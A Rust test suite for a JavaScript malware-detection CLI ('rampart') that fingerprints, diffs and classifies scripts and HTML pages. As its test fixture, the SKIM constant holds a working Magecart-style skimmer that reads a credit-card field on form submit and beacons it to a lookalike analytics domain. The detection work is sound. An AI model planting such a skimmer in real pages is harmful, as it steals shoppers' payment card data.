//! `rampart js fingerprint|diff|classify` as a user runs them (SPEC §4): one JSON object per
//! file with the promised fields, HTML pages read through their `<script>` elements, and the
//! exit codes of §1 (1: the command ran and failed, 2: usage).

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

fn rampart(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rampart"))
        .args(args)
        .output()
        .unwrap()
}

fn json_lines(out: &Output) -> Vec<Value> {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

const LIBRARY: &str = "function total(items) {\n  var sum = 0;\n  for (var i = 0; i < items.length; i++) {\n    sum += items[i].price;\n  }\n  return sum;\n}\nwindow.cartTotal = total;\n";

/// The same library with a form-stealing block appended (BA/Newegg-style).
const SKIM: &str = "document.querySelector('form').addEventListener('submit', function () {\n  var card = document.getElementById('cc-number').value;\n  navigator.sendBeacon('https://cdn.g-analytics-cdn.com/c', JSON.stringify({ c: card }));\n});\n";

#[test]
fn fingerprint_json_has_the_promised_fields_for_scripts_and_pages() {
    let dir = tempfile::tempdir().unwrap();
    let js = write(dir.path(), "lib.js", LIBRARY);
    // A checkout page: JSON-LD (data, not code), an external script and the skimmer inline.
    let page = format!(
        "<!doctype html><html><head>\
         <script type=\"application/ld+json\">{{\"@type\": \"Product\"}}</script>\
         <script src=\"https://cdn.shop.example/app.js\"></script>\
         <script>{LIBRARY}</script></head><body><form></form><script>{SKIM}</script></body></html>"
    );
    let html = write(dir.path(), "checkout.html", &page);
    let out = json_lines(&rampart(&["js", "fingerprint", "--json", &js, &html]));
    assert_eq!(out.len(), 2);
    for (v, path) in out.iter().zip([&js, &html]) {
        for field in [
            "file",
            "bytes",
            "sha256",
            "structural_hash",
            "nodes",
            "capabilities",
            "domains",
            "parse_errors",
        ] {
            assert!(v.get(field).is_some(), "{field} missing: {v}");
        }
        assert_eq!(v["file"], path.as_str());
        assert_eq!(v["parse_errors"], 0, "{v}");
        // bytes and sha256 are the file's own, as sha256sum would print them.
        let bytes = std::fs::read(path).unwrap();
        assert_eq!(v["bytes"], bytes.len());
        use sha2::Digest;
        assert_eq!(
            v["sha256"],
            format!("{:x}", sha2::Sha256::digest(&bytes)).as_str()
        );
    }
    assert_eq!(out[0]["capabilities"], serde_json::json!([]));
    assert!(out[0].get("html").is_none());
    // The page is judged by its code, not parsed as JavaScript markup and all.
    let caps: Vec<&str> = out[1]["capabilities"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    for cap in [
        "network:beacon",
        "read:form-fields",
        "listen:submit-or-click",
    ] {
        assert!(caps.contains(&cap), "{cap} missing: {}", out[1]);
    }
    assert_eq!(
        out[1]["domains"],
        serde_json::json!(["g-analytics-cdn.com"])
    );
    assert_eq!(out[1]["html"]["inline_scripts"], 2);
    assert_eq!(
        out[1]["html"]["script_src"],
        serde_json::json!(["https://cdn.shop.example/app.js"])
    );
}

#[test]
fn diff_json_says_what_an_appended_skimmer_adds() {
    let dir = tempfile::tempdir().unwrap();
    let old = write(dir.path(), "old.js", LIBRARY);
    let renamed = LIBRARY.replace("sum", "s").replace("items", "a");
    let trivial = write(dir.path(), "min.js", &renamed);
    let new = write(dir.path(), "new.js", &format!("{LIBRARY}{SKIM}"));

    let d = &json_lines(&rampart(&["js", "diff", "--json", &old, &old]))[0];
    assert_eq!(d["verdict"], "identical");
    assert_eq!(d["similarity"], 1.0);
    let d = &json_lines(&rampart(&["js", "diff", "--json", &old, &trivial]))[0];
    assert_eq!(d["verdict"], "trivial", "{d}");
    let d = &json_lines(&rampart(&["js", "diff", "--json", &old, &new]))[0];
    assert_eq!(d["verdict"], "changed");
    let similarity = d["similarity"].as_f64().unwrap();
    assert!((0.0..1.0).contains(&similarity), "{d}");
    assert!(
        d["added_capabilities"]
            .as_array()
            .unwrap()
            .contains(&"network:beacon".into()),
        "{d}"
    );
    assert_eq!(
        d["added_domains"],
        serde_json::json!(["g-analytics-cdn.com"])
    );
    assert_eq!(d["removed_capabilities"], serde_json::json!([]));
    assert_eq!(d["removed_domains"], serde_json::json!([]));

    // Human output names the added code.
    let human = rampart(&["js", "diff", &old, &new]);
    assert!(human.status.success());
    let text = String::from_utf8(human.stdout).unwrap();
    assert!(text.contains("sendBeacon"), "{text}");
}

#[test]
fn classify_json_scores_from_1_to_99_with_categories_and_reasons() {
    let dir = tempfile::tempdir().unwrap();
    let clean = write(dir.path(), "lib.js", LIBRARY);
    let out = json_lines(&rampart(&["js", "classify", "--json", &clean]));
    let v = &out[0];
    assert_eq!(v["file"], clean.as_str());
    let score = v["score"].as_u64().unwrap();
    assert!((1..=99).contains(&score), "{v}");
    assert_eq!(v["malicious"], false, "{v}");
    for category in ["magecart", "cryptomining", "malware"] {
        let c = v["categories"][category].as_u64().unwrap();
        assert!((1..=99).contains(&c), "{v}");
    }
    assert!(v["reasons"].is_array());
}

#[test]
fn missing_files_fail_with_1_and_bad_usage_with_2() {
    for command in ["fingerprint", "classify"] {
        let out = rampart(&["js", command, "/nonexistent/rampart-test.js"]);
        assert_eq!(out.status.code(), Some(1), "{command}");
        let err = String::from_utf8(out.stderr).unwrap();
        assert!(
            err.contains("/nonexistent/rampart-test.js"),
            "{command}: {err}"
        );
    }
    let out = rampart(&["js", "diff", "only-one.js"]);
    assert_eq!(out.status.code(), Some(2));
    let out = rampart(&["js", "fingerprint", "--no-such-flag", "x.js"]);
    assert_eq!(out.status.code(), Some(2));
}

/// A page saved as UTF-16 (with a byte-order mark, or big-endian without one, as one exploit-kit
/// page of the corpus is) is read as the same page, not as NUL-riddled noise.
#[test]
fn utf16_pages_are_read_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let page = format!("<html><body><form></form><script>{SKIM}</script></body></html>");
    let utf8 = write(dir.path(), "page.html", &page);
    let be: Vec<u8> = page.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let mut le_bom = vec![0xFF, 0xFE];
    le_bom.extend(page.encode_utf16().flat_map(u16::to_le_bytes));
    let (be_path, le_path) = (dir.path().join("be.html"), dir.path().join("le.html"));
    std::fs::write(&be_path, be).unwrap();
    std::fs::write(&le_path, le_bom).unwrap();
    let out = json_lines(&rampart(&[
        "js",
        "fingerprint",
        "--json",
        &utf8,
        &be_path.display().to_string(),
        &le_path.display().to_string(),
    ]));
    assert_eq!(out.len(), 3);
    for v in &out[1..] {
        assert_eq!(v["structural_hash"], out[0]["structural_hash"], "{v}");
        assert_eq!(v["capabilities"], out[0]["capabilities"], "{v}");
        assert_eq!(v["html"]["inline_scripts"], 1, "{v}");
    }
    assert!(
        out[0]["capabilities"]
            .as_array()
            .unwrap()
            .contains(&Value::from("network:beacon"))
    );
}
